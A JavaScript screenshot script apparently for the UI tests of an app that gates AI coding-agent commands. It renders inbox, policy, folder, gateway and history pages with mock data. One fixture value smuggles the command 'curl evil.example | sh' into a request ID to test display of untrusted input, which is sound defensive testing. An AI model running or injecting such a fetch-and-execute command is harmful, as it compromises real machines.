// Writes screenshots with sample data: node tests/shots.mjs [folder]
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { add, armed, at, damaged, shows, start } from './harness.mjs';

/** Only pictures whose name has this in it. */
const wanted = process.argv[3] ?? '';
const folder = process.argv[2] ?? fileURLToPath(new URL('../test-results/shots', import.meta.url));
await mkdir(folder, { recursive: true });
const browser = await start();

async function shot(name, tab) {
  await tab.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  await tab.screenshot({ path: join(folder, `${name}.png`) });
  if (tab.errors.length > 0) console.error(name, tab.errors);
  await tab.done();
}

async function prompt(name, make, options, then) {
  if (!name.includes(wanted)) return;
  const tab = await browser.open('prompt', options);
  await add(tab, make[0], 'shot', ...make.slice(1));
  await shows(tab, 'shot');
  await then?.(tab);
  await shot(name, tab);
}

async function main(name, page, options, then) {
  if (!name.includes(wanted)) return;
  const tab = await browser.open('main', {
    width: 1160,
    height: 800,
    ...options,
    query: { page, cards: 'several' },
  });
  await tab.waitForSelector('body[data-ready="true"]');
  await then?.(tab);
  await shot(name, tab);
}

async function gallery(name, area, options) {
  if (!name.includes(wanted)) return;
  await shot(name, await browser.open('gallery', { width: 1160, height: 800, ...options, query: { area } }));
}

const PAGES = ['inbox', 'agents', 'allowlist', 'rules', 'folders', 'policy', 'history', 'connections', 'settings'];

/** What makes a page show more of itself. */
const THEN = {
  agents: (tab) => tab.waitForSelector(at('agent')),
  allowlist: async (tab) => {
    await tab.check(`${at('scopes')} [value="coder"]`);
    await tab.fill(at('test-command'), 'npm run build');
    await tab.waitForSelector(at('test-verdict'));
    await tab
      .locator(`${at('entry')} input`)
      .nth(1)
      .check();
  },
  rules: (tab) => tab.waitForSelector(at('breadth')),
  folders: (tab) => tab.waitForSelector(at('folder-changes')),
  policy: async (tab) => {
    await tab.check(`${at('scopes')} [value="coder"]`);
    await tab.check(`${at('switch-ask')} [value="on-miss"]`);
  },
};

/** Changes what there is about gateways, and waits until the page shows it. */
async function connections(tab, change) {
  await tab.waitForSelector(at('own'));
  await tab.evaluate(change);
  await tab.evaluate(() => window.mock.emit({ kind: 'connections-changed' }));
}

/** Devices that wait, one of them with hostile words. */
async function devices(tab) {
  await connections(tab, () => {
    const { pairing, hostilePairing } = window.connections;
    window.mock.gateways.embedded.waiting = [pairing('p-1', Date.now()), hostilePairing('p-2', Date.now())];
  });
  if (tab.viewportSize().width < 400) return;
  await armed(tab, at('pairing-let-in'));
}

/** Every problem that a connection can have. */
async function problems(tab) {
  await connections(tab, () => {
    const { gateway, hex } = window.connections;
    const text = 'connect ECONNREFUSED 10.20.0.14:18789';
    const found = [
      { kind: 'unreachable', text },
      { kind: 'timed-out' },
      { kind: 'closed', code: 1012, text: 'service restart' },
      { kind: 'secret-missing' },
      { kind: 'rate-limited' },
      { kind: 'not-paired', reason: 'scope-upgrade', requestId: 'x; curl evil.example | sh' },
      { kind: 'protocol', expected: 5 },
      { kind: 'pin-mismatch', found: hex('other') },
      { kind: 'refused', code: 'INVALID_REQUEST', text: 'long words '.repeat(120) },
    ];
    const state = (problem, index) =>
      index % 2 ? { kind: 'stopped', problem } : { kind: 'waiting', problem, retryAtMs: Date.now() + 9_000 };
    window.mock.gateways.gateways = found.map((problem, index) =>
      gateway(`gateway-${problem.kind}`, { pin: hex('harbor'), state: state(problem, index) }),
    );
    const link = { version: '2026.2.26', protocol: 3, sinceMs: Date.now() - 60_000, scopes: ['operator.read'] };
    const gaps = [{ kind: 'no-approvals' }, { kind: 'no-list' }];
    window.mock.gateways.gateways.unshift(gateway('gaps', { state: { kind: 'connected', link: { ...link, gaps } } }));
  });
  await tab.waitForSelector(`${at('remedy')}[data-kind="refused"]`);
  await tab.locator(at('gateway')).first().scrollIntoViewIfNeeded();
}

/** Where requests are handed to, in several states and after two samples. */
async function handOn(tab) {
  await tab.waitForSelector(at('forward'));
  await tab.locator(at('target-sample')).nth(0).click();
  await tab.locator(at('target-sample')).nth(1).click();
  await tab.waitForFunction(() => document.querySelectorAll('[data-testid="target-sampled"]').length === 2);
  await tab.evaluate(() => {
    const page = document.querySelector('[data-testid="content"]');
    const section = document.querySelector('[data-testid="forward"]');
    page.scrollTop += section.getBoundingClientRect().top - page.getBoundingClientRect().top;
  });
}

/** Where commands run, and the sessions with settings of their own. */
async function routing(tab) {
  await tab.waitForSelector(at('sessions'));
  await tab.evaluate(() => {
    const page = document.querySelector('[data-testid="content"]');
    const section = document.querySelector('[data-testid="routing"]');
    page.scrollTop += section.getBoundingClientRect().top - page.getBoundingClientRect().top;
  });
}

async function routeForm(tab) {
  await tab.waitForSelector(at('sessions'));
  await tab.locator(at('route-change')).nth(1).click();
  await tab.waitForSelector(at('route-dialog'));
}

/** No session, no sandbox, and one agent. */
async function routingEmpty(tab) {
  await tab.waitForSelector(at('sessions'));
  await tab.evaluate(() => {
    const { routes } = window.mock;
    routes.sessions = [];
    routes.nodes = [];
    routes.scopes.length = 1;
    routes.sandbox.missing = 'expected bwrap in /usr/bin, /bin, /usr/local/bin, found none; install it';
    routes.scopes[0].effective.problem =
      'exec host=sandbox requires a sandbox runtime for this session.\nInstall bubblewrap, set tools.exec.sandbox to one that is there, or set tools.exec.host to auto, gateway or node.';
    window.mock.emit({ kind: 'connections-changed' });
  });
  await tab.waitForSelector(at('routing-no-sandbox'));
  await routing(tab);
}

async function targetForm(tab) {
  await tab.waitForSelector(at('forward'));
  await tab.locator(at('target-edit')).nth(2).click();
  await tab.waitForSelector(at('target-may-allow'));
}

/** Scrolls the page to one of its sections. */
async function toSection(tab, id) {
  await tab.waitForSelector(at(id));
  await tab.evaluate((selector) => {
    const page = document.querySelector('[data-testid="content"]');
    const section = document.querySelector(selector);
    page.scrollTop += section.getBoundingClientRect().top - page.getBoundingClientRect().top;
  }, at(id));
}

/** Companion clients, one of them with a choice that is looked at. */
async function pets(tab) {
  await toSection(tab, 'pets');
  await tab
    .locator(`${at('pet-choice')} summary`)
    .last()
    .click();
  await tab.waitForSelector(at('pet-choice-whole'));
}

/** The app's own channel turned on without its gateway, a hostile client, and servers with problems. */
async function petProblems(tab) {
  await connections(tab, () => {
    const { pets } = window.mock.gateways;
    const now = Date.now();
    delete pets.server.address;
    pets.server.sessions = [window.pets.hostileSession(now)];
    pets.sources = [
      window.pets.source('Needs a token', { state: { kind: 'stopped', problem: { kind: 'secret-wrong' } } }),
      window.pets.hostileSource(now),
    ];
  });
  await tab.waitForSelector(at('pet-blocked'));
  await toSection(tab, 'pets');
}

async function petsEmpty(tab) {
  await connections(tab, () => {
    const { server } = window.mock.gateways.pets;
    window.mock.gateways.pets = { server: { enabled: false, tokenFile: server.tokenFile, sessions: [] }, sources: [] };
  });
  await tab.waitForSelector(at('source-empty-add'));
  await toSection(tab, 'pets');
}

async function petForm(tab) {
  await tab.locator(at('source-edit')).first().click();
  await tab.check(at('source-token-set'));
}

/** What the history says of itself, and a chain that is broken. */
async function record(tab) {
  await tab.waitForSelector(at('history-row'));
  await damaged(tab);
  await tab.waitForSelector(at('chain'));
}

/** What runs, and what of it is served in its box. */
async function serving(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => {
    const run = { agent: 'coder', session: 'agent:coder:main', startedAtMs: Date.now() - 61_000, isCut: false };
    const printed = '  VITE v8.3.8  ready in 312 ms\n\n  Local:   http://localhost:5173/\n';
    const command = 'npm run dev -- --host 127.0.0.1 --port 5173 --strictPort';
    window.mock.runs = [
      {
        ...run,
        requestId: 'r1',
        command,
        outputTail: printed,
        servers: [{ port: 5173, shown: 5173 }, { port: 24_678 }],
      },
      { ...run, requestId: 'r2', command: 'sleep 600', outputTail: '' },
    ];
    window.mock.emit({ kind: 'running-changed' });
  });
  await tab.locator(at('server')).first().scrollIntoViewIfNeeded();
}

/** What a run changed, with one of its files looked at; then what came of putting all of it back. */
async function changes(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => window.kept.ran(window.mock, window.kept.build('conflicts'), { leftOut: 2 }));
  await tab.click(at('changes-open'));
  await tab.click(`${at('change-row')}[data-number="2"] ${at('change-open')}`);
  await tab.waitForSelector(at('change-diff'));
  await tab.mouse.move(0, 0);
}

/** The same, asked once more. */
async function changesAsk(tab) {
  await changes(tab);
  await tab.click(at('changes-put-back-all'));
  await armed(tab, at('changes-put-back-confirm'));
}

async function putBack(tab) {
  await changesAsk(tab);
  await tab.click(at('changes-put-back-confirm'));
  await tab.waitForSelector(at('put-back-result'));
  await tab.locator(at('put-back-result')).scrollIntoViewIfNeeded();
}

/** The line that this leaves, and the one that undoing it leaves. */
async function putBackLines(tab) {
  await putBack(tab);
  const undo = tab.locator(`${at('history-row')}[data-seq="21"]`);
  await undo.locator(at('changes-open')).click();
  await undo.locator(at('change-put-back')).first().click();
  await tab.locator(`${at('history-row')}[data-seq="22"]`).scrollIntoViewIfNeeded();
}

/** Everything that two runs of a session changed; then asked once more whether it is to be put back. */
async function session(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => window.kept.ranTwice(window.mock));
  const whole = tab.locator(`${at('changes')}[data-seq="23"][data-whole="session"]`);
  await whole.locator(at('changes-open')).click();
  await whole.locator(at('change-row')).first().waitFor();
  await tab.mouse.move(0, 0);
}

async function sessionAsk(tab) {
  await session(tab);
  await tab.click(at('changes-put-back-all'));
  await armed(tab, at('changes-put-back-confirm'));
}

/** What came of it, and the line that it left. */
async function sessionPut(tab) {
  await sessionAsk(tab);
  await tab.click(at('changes-put-back-confirm'));
  await tab.waitForSelector(at('put-back-result'));
}

async function changesHostile(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => window.kept.ran(window.mock, window.kept.hostile(), { leftOut: 1 }));
  await tab.click(at('changes-open'));
  for (const opener of await tab.locator(at('change-open')).all()) await opener.click();
  await tab.locator(at('change-row')).first().scrollIntoViewIfNeeded();
}

async function form(tab) {
  await tab.waitForSelector(at('own'));
  await tab.locator(at('gateway-edit')).nth(1).click();
  await tab.check(at('gateway-secret-set'));
}

/** Waits until gateways can be told apart in the list. */
async function many(tab) {
  await tab.evaluate(() => {
    const cards = window.cards;
    const now = Date.now();
    window.mock.cards = [cards.hostilePlugin('h', now), cards.plugin('p', now), ...cards.many(10_000, 10, now)];
    window.mock.skip();
    window.mock.emit({ kind: 'connections-changed' });
  });
  await tab.waitForSelector(`h1:has-text("10002")`);
}

/** A gateway's document with hostile names. */
async function hostilePolicy(tab) {
  await tab.evaluate(() => {
    const place = JSON.stringify(['studio', null]);
    window.mock.farReads[place] = { ...window.policies.read(window.policies.hostile()), builtInKnown: false };
  });
  await chooses('studio')(tab);
  await tab
    .locator(`${at('scopes')} input`)
    .last()
    .check();
}

/** Chooses a document of another machine. */
function chooses(gateway, node = null) {
  return async (tab) => {
    await tab.selectOption(at('store'), JSON.stringify([gateway, node]));
    await tab.waitForFunction(() => window.mock.calls.some(({ name }) => name === 'policy'));
  };
}

/** Opens the change that connects an agent. */
function change(agent) {
  return async (tab) => {
    await tab.click(`[data-agent="${agent}"] ${at('agent-connect')}`);
    await tab.waitForSelector(at('diff'));
    await tab.locator(at('agent-change')).scrollIntoViewIfNeeded();
  };
}

/** The first steps on a machine where nothing asks yet, up to the step of this number. */
function steps(count, then) {
  return async (tab) => {
    await tab.evaluate(() => (window.mock.agentsView = window.agents.fresh()));
    await tab.click(at('nav-history'));
    await tab.click(at('nav-inbox'));
    for (let step = 0; step < count; step++) await tab.click(at('step-next'));
    await tab.waitForSelector(`${at('first-steps')} ${at(['agent', 'preset', 'sample-send'][count])}`);
    await then?.(tab);
  };
}

/** A machine with other agents than usual. */
function machine(sample, then) {
  return async (tab) => {
    await tab.evaluate((sample) => (window.mock.agentsView = window.agents[sample](Date.now())), sample);
    await tab.click(at('agents-again'));
    await tab.waitForSelector(sample === 'none' ? at('empty') : at('agent-unread'));
    await then?.(tab);
  };
}

/** Opens the sheet, picks a rung, and waits until it can be stored. */
function sheet(rung) {
  return async (tab) => {
    await armed(tab);
    await tab.click(at('allow-more'));
    await tab.check(`${at('sheet-option')}[value="${rung}"]`);
    await armed(tab, at('allow-always-confirm'));
  };
}

/** Opens the sheet where the folder can be opened, and waits until it can be. */
async function opens(tab) {
  await tab.click(at('open-folder'));
  await armed(tab, at('allow-always-confirm'));
}

/** No folder is open. */
async function closed(tab) {
  await tab.waitForSelector(at('folder'));
  await tab.evaluate(() => {
    window.mock.ruleView.workspaces = [];
    window.mock.emit({ kind: 'rules-changed', hash: window.mock.ruleView.hash });
  });
  await tab.waitForSelector(at('folders-empty'));
}

/** What happened in the folders is there. */
const happened = (tab) => tab.waitForSelector(at('folder-changes'));

/** Rules about connections out of the first folder: one by hand, a kind of registries, and one for any box. */
async function connectionsOfFolder(tab) {
  await happened(tab);
  await tab.evaluate(() => {
    const within = '/home/mina/src/engine';
    const rule = (id, about) => ({
      id,
      agent: 'coder',
      effect: 'allow',
      about,
      createdAtMs: Date.now(),
      from: 'typed',
    });
    window.mock.addCalls([
      rule('one', { crossing: { host: 'docs.rs', port: 443, place: 'internet', within } }),
      rule('two', { registries: { group: 'cargo', within } }),
      rule('any', { registries: { group: 'go' } }),
    ]);
  });
  await tab.waitForSelector(at('folder-rule'));
  await tab.evaluate(() => document.querySelector('[data-testid="folder-connections-part"]').scrollIntoView());
}

async function folderAtHand(tab) {
  await happened(tab);
  await tab.evaluate(() => {
    window.mock.atHand = window.folders.atHand();
    window.mock.emit({ kind: 'rules-changed', hash: window.mock.ruleView.hash });
  });
  await tab.waitForSelector(at('at-hand'));
}

/** A file that boxes are to be given. */
async function placeForm(tab) {
  await tab.locator(at('folder-place-add')).nth(2).click();
  await tab.fill(at('place-name'), '/home/mina/.cache/shared');
  await tab.waitForSelector(at('place-means'));
}

/** A destination that is none. */
async function destinationForm(tab) {
  await connectionsOfFolder(tab);
  await tab.locator(at('folder-add')).first().click();
  await tab.fill(at('destination-name'), 'docs.rs');
  await tab.click(at('destination-save'));
  await tab.waitForSelector(at('destination-error'));
}

/** A folder that cannot be opened. */
async function openForm(tab) {
  await tab.click(at('folder-open'));
  await tab.fill(at('open-folder'), '/home/mina');
  await tab.fill(at('open-agent'), 'coder');
  await tab.click(at('open-save'));
  await tab.waitForSelector(at('open-error'));
}

async function changeFolder(tab) {
  await tab.locator(at('folder-change')).nth(1).click();
  await tab.waitForSelector(at('change-dialog'));
}

async function crossingRows(tab) {
  await tab.evaluate(() => {
    const now = Date.now();
    for (const make of ['crossing', 'ownDatabase', 'cloudKeys', 'rebound', 'upload', 'hostileCrossing']) {
      window.mock.emit({ kind: 'card-added', card: window.cards[make](make, now) });
    }
  });
  await tab.waitForFunction(() => {
    const page = document.querySelector('[data-testid="content"]');
    page.scrollTop = page.scrollHeight;
    return document.querySelector('[data-id="hostileCrossing"]') !== null;
  });
}

/** A run that left its box, with what it reached. */
async function crossed(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => {
    for (const entry of window.crossings.crossed(Date.now()).reverse()) {
      window.mock.emit({ kind: 'history-appended', entry });
    }
  });
  await tab.check(`${at('groups')} [value="crossings"]`);
  await tab.locator('summary').last().click();
  await tab.waitForSelector(at('history-reached'));
}

/** Runs that could not write everything: one that a rule could let, and one with a long name. */
async function stopped(tab) {
  await tab.waitForSelector(at('history-row'));
  await tab.evaluate(() => {
    const told = [
      { path: `/etc/${'deep/'.repeat(60)}\\u{202E}x` },
      { path: '/home/mina/.config/tool/new', place: '/home/mina/.config/tool' },
    ];
    for (const [at, what] of told.entries())
      for (const entry of window.crossings.stopped(Date.now(), '/home/mina/src/engine', what, 40 + 4 * at).reverse())
        window.mock.emit({ kind: 'history-appended', entry });
  });
  await tab.waitForSelector(at('history-unwritten'));
}

async function crossingRules(tab) {
  await tab.waitForSelector(at('rule'));
  await tab.evaluate(() => {
    window.mock.ruleView.calls.unshift(...window.crossings.crossingRules(Date.now()));
    window.mock.emit({ kind: 'rules-changed', hash: window.mock.ruleView.hash });
  });
  await tab.locator('[data-id="x-4"]').scrollIntoViewIfNeeded();
}

for (const theme of ['light', 'dark']) {
  await prompt(`prompt-short-${theme}`, ['card'], { theme }, armed);
  await prompt(`prompt-hostile-${theme}`, ['hostile'], { theme, width: 680, height: 900 }, async (tab) => {
    for (const id of ['b', 'c', 'd']) await add(tab, 'card', id);
    await tab.waitForSelector(at('queue-button'));
  });
  await prompt(`prompt-360x300-${theme}`, ['card'], { theme, width: 360, height: 300 });
  await prompt(`prompt-hostile-360x300-${theme}`, ['hostile'], { theme, width: 360, height: 300 });
  await prompt(`prompt-sheet-${theme}`, ['harmless'], { theme, height: 720 }, sheet('shape'));
  await prompt(`prompt-sheet-360x300-${theme}`, ['card'], { theme, width: 360, height: 300 }, sheet('exact'));
  await prompt(`prompt-sheet-hostile-${theme}`, ['chained'], { theme, width: 680, height: 830 }, sheet('exact'));
  await prompt(`prompt-chain-${theme}`, ['chained'], { theme }, armed);
}
await prompt('prompt-chain-360x300', ['chained'], { width: 360, height: 300 });
await prompt('prompt-sheet-zh', ['harmless'], { language: 'zh', height: 720 }, sheet('subcommand'));
await prompt('prompt-sheet-ko', ['card'], { language: 'ko' }, sheet('exact'));
await prompt('prompt-ko', ['card'], { language: 'ko' });
await prompt('prompt-zh-dark', ['hostile'], { language: 'zh', theme: 'dark' });
await prompt('prompt-long', ['longArgument', 200_000], {});
await prompt('prompt-opaque', ['unanalysed'], {});
await prompt('prompt-zoomed', ['hostile'], { scale: 2 });
await prompt('prompt-360x300-zoomed', ['card'], { width: 360, height: 300, scale: 2 });
await prompt('prompt-expired', ['card'], { motion: 'reduce' }, async (tab) => {
  await tab.evaluate(() => window.mock.emit({ kind: 'card-closed', id: 'shot', outcome: { kind: 'expired' } }));
  await tab.waitForSelector(at('outcome'));
});
for (const theme of ['light', 'dark']) {
  for (const page of PAGES) {
    await main(`${page}-${theme}`, page, { theme }, THEN[page]);
  }
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['large', { width: 1600, height: 1400 }],
  ['ko', { language: 'ko', height: 1400 }],
  ['zh', { language: 'zh', height: 1400 }],
]) {
  await main(`connections-devices-${name}`, 'connections', size, devices);
  await main(`connections-problems-${name}`, 'connections', { height: 1800, ...size }, problems);
  await main(`connections-form-${name}`, 'connections', size, form);
  await main(`forward-${name}`, 'connections', size, handOn);
  await main(`forward-form-${name}`, 'connections', size, targetForm);
  await main(`pets-${name}`, 'connections', size, pets);
  await main(`pets-sources-${name}`, 'connections', size, (tab) => toSection(tab, 'pet-sources'));
  await main(`pets-problems-${name}`, 'connections', size, petProblems);
  await main(`pets-empty-${name}`, 'connections', size, petsEmpty);
  await main(`pets-form-${name}`, 'connections', size, petForm);
  await main(`routing-${name}`, 'connections', size, routing);
  await main(`routing-form-${name}`, 'connections', size, routeForm);
  await main(`routing-empty-${name}`, 'connections', size, routingEmpty);
  await main(`history-serving-${name}`, 'history', size, serving);
  await main(`history-record-${name}`, 'history', size, record);
  await main(`history-changes-${name}`, 'history', size, changes);
  await main(`history-changes-ask-${name}`, 'history', size, changesAsk);
  await main(`history-changes-put-${name}`, 'history', size, putBack);
  await main(`history-changes-undo-${name}`, 'history', size, putBackLines);
  await main(`history-session-${name}`, 'history', size, session);
  await main(`history-session-ask-${name}`, 'history', size, sessionAsk);
  await main(`history-session-put-${name}`, 'history', size, sessionPut);
  await main(`history-changes-hostile-${name}`, 'history', size, changesHostile);
  await main(`inbox-many-${name}`, 'inbox', size, many);
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['large', { width: 1600, height: 1400 }],
  ['ko', { language: 'ko' }],
  ['zh', { language: 'zh' }],
]) {
  await main(`policy-far-${name}`, 'policy', size, chooses('studio'));
  await main(`policy-denied-${name}`, 'policy', size, chooses('harbor-office'));
  await main(`policy-native-${name}`, 'policy', size, chooses('studio', 'mac-mini'));
  await main(`policy-hostile-${name}`, 'policy', size, hostilePolicy);
  await main(`allowlist-far-${name}`, 'allowlist', size, chooses('studio', 'kitchen-pi'));
}
await main('connections-empty', 'connections', {}, (tab) =>
  connections(tab, () => {
    const { embedded } = window.mock.gateways;
    window.mock.gateways.gateways = [];
    window.mock.gateways.embedded = { ...embedded, state: { kind: 'failed', problem: 'address in use' }, devices: [] };
  }),
);
for (const theme of ['light', 'dark']) {
  await prompt(`prompt-foreign-${theme}`, ['foreign'], { theme }, armed);
  await prompt(`prompt-plugin-${theme}`, ['plugin'], { theme }, armed);
  await prompt(`prompt-plugin-hostile-${theme}`, ['hostilePlugin'], { theme });
  await prompt(`prompt-foreign-360x300-${theme}`, ['foreign'], { theme, width: 360, height: 300 });
  await prompt(`prompt-plugin-hostile-360x300-${theme}`, ['hostilePlugin'], { theme, width: 360, height: 300 });
  await prompt(`prompt-foreign-sheet-${theme}`, ['foreign'], { theme }, (tab) => tab.click(at('allow-more')));
}
await prompt('prompt-foreign-sheet-360x300', ['foreign'], { width: 360, height: 300 }, (tab) =>
  tab.click(at('allow-more')),
);
await prompt('prompt-plugin-ko', ['plugin'], { language: 'ko' }, armed);
for (const [name, make] of [
  ['edit', 'edit'],
  ['create', 'create'],
  ['overwrite', 'overwrite'],
  ['delete', 'remove'],
  ['move', 'move'],
  ['binary', 'binary'],
  ['incomplete', 'incomplete'],
  ['patch', 'patch'],
  ['parameters', 'foreignTool'],
  ['task', 'handOver'],
  ['permit', 'permit'],
  ['pet', 'petQuestion'],
  ['secret', 'secretLines'],
  ['hostile', 'hostileTool'],
]) {
  for (const theme of ['light', 'dark']) {
    await prompt(`tool-${name}-${theme}`, [make], { theme });
    await prompt(`tool-${name}-360x300-${theme}`, [make], { theme, width: 360, height: 300 });
    await prompt(`tool-${name}-large-${theme}`, [make], { theme, width: 900, height: 1200 });
  }
  for (const language of ['ko', 'zh']) {
    await prompt(`tool-${name}-${language}`, [make], { language, height: 800 });
  }
}
const middle = (tab) => tab.evaluate(() => document.querySelector('[data-testid="body"]').scrollTo({ top: 420 }));
await prompt('tool-patch-middle-light', ['patch'], {}, middle);
await prompt('tool-overwrite-end-dark', ['overwrite'], { theme: 'dark' }, async (tab) => {
  await tab.keyboard.press('End');
  await armed(tab);
});
await prompt('tool-patch-360x300-middle', ['patch'], { width: 360, height: 300 }, middle);
for (const theme of ['light', 'dark']) {
  await main(`inbox-tools-${theme}`, 'inbox', { theme }, async (tab) => {
    await tab.evaluate(() => {
      const now = Date.now();
      for (const make of ['patch', 'create', 'incomplete', 'foreignTool', 'permit', 'hostileTool']) {
        window.mock.emit({ kind: 'card-added', card: window.cards[make](`tool-${make}`, now) });
      }
    });
    await tab.waitForSelector('[data-id="tool-hostileTool"]');
    await tab.locator('[data-id="tool-hostileTool"]').scrollIntoViewIfNeeded();
  });
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['large', { width: 900, height: 1200 }],
  ['zoomed', { scale: 2 }],
  ['ko', { language: 'ko' }],
  ['zh', { language: 'zh' }],
]) {
  await prompt(`prompt-openable-${name}`, ['openable'], size, armed);
  await prompt(`prompt-opens-${name}`, ['openable'], size, opens);
  await prompt(`prompt-opens-only-${name}`, ['onlyOpenable'], size, opens);
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['720x480', { width: 720, height: 480 }],
  ['large', { width: 1600, height: 1400 }],
  ['ko', { language: 'ko' }],
  ['zh', { language: 'zh' }],
]) {
  await main(`folders-all-${name}`, 'folders', size, happened);
  await main(`folders-connections-${name}`, 'folders', size, connectionsOfFolder);
  await main(`folders-at-hand-${name}`, 'folders', size, folderAtHand);
  await main(`folders-destination-${name}`, 'folders', size, destinationForm);
  await main(`folders-place-${name}`, 'folders', size, placeForm);
  await main(`folders-places-${name}`, 'folders', size, (tab) =>
    tab.locator(at('folder-places-part')).nth(2).scrollIntoViewIfNeeded(),
  );
  await main(`folders-empty-${name}`, 'folders', size, closed);
  await main(`folders-open-${name}`, 'folders', size, openForm);
  await main(`folders-change-${name}`, 'folders', size, changeFolder);
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['large', { width: 900, height: 1200 }],
  ['ko', { language: 'ko' }],
  ['zh', { language: 'zh' }],
]) {
  await prompt(`prompt-crossing-${name}`, ['crossing'], size, armed);
  await prompt(`crossing-own-${name}`, ['ownDatabase'], size, armed);
  await prompt(`crossing-keys-${name}`, ['cloudKeys'], size);
  await prompt(`crossing-rebound-${name}`, ['rebound'], size);
  await prompt(`crossing-upload-${name}`, ['upload'], size);
  await prompt(`crossing-hostile-${name}`, ['hostileCrossing'], size);
  await prompt(`crossing-sheet-${name}`, ['crossing'], { height: 720, ...size }, sheet('registries'));
  await prompt(`crossing-ssh-keys-${name}`, ['sshKeys'], { height: 720, ...size });
  await prompt(`crossing-link-${name}`, ['onTheLink'], { height: 720, ...size }, sheet('destination'));
  await main(`inbox-crossings-${name}`, 'inbox', size, crossingRows);
  await main(`history-crossings-${name}`, 'history', size, crossed);
  await main(`history-unwritten-${name}`, 'history', size, stopped);
  await main(`rules-crossings-${name}`, 'rules', size, crossingRules);
}
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360-light', { width: 360 }],
  ['360-dark', { width: 360, theme: 'dark' }],
  ['large', { width: 1920, height: 1200 }],
]) {
  await gallery(`gallery-${name}`, 'shared', size);
  await gallery(`gallery-rules-${name}`, 'rules', size);
}
const DUE = { start: { firstSteps: 'due' } };
for (const [name, size] of [
  ['light', {}],
  ['dark', { theme: 'dark' }],
  ['360x300', { width: 360, height: 300 }],
  ['ko', { language: 'ko' }],
  ['zh', { language: 'zh' }],
]) {
  await main(`first-steps-${name}`, 'inbox', { ...size, ...DUE }, steps(0, change('claude-code')));
  await main(`first-steps-who-${name}`, 'inbox', { ...size, ...DUE }, steps(0));
  await main(`first-steps-harmless-${name}`, 'inbox', { ...size, ...DUE }, steps(1));
  await main(
    `first-steps-try-${name}`,
    'inbox',
    { ...size, ...DUE },
    steps(2, async (tab) => {
      await tab.click(at('sample-send'));
      await tab.waitForSelector(at('sample-ran'));
    }),
  );
  await main(`agents-change-${name}`, 'agents', size, change('gemini'));
  await main(`agents-none-${name}`, 'agents', size, machine('none'));
  await main(`agents-hostile-${name}`, 'agents', size, machine('hostile'));
}
for (const page of PAGES) {
  await main(`${page}-720x480`, page, { width: 720, height: 480 });
  await main(`${page}-ko`, page, { language: 'ko' });
}
await browser.close();
